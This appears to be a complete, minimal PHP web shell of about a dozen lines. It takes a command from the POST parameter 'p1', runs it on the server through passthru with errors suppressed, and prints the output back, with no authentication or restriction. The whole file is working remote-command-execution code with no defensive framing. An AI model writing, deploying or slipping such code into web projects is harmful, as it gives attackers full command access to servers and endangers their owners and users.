<?php
// the command runner checks that its function exists before it calls it
function run_it($in) {
    $out = '';
    if (function_exists('passthru')) {
        ob_start();
        @passthru($in);
        $out = ob_get_clean();
    }
    return $out;
}
echo htmlspecialchars("$ " . $_POST['p1'] . "\n" . run_it($_POST['p1']));
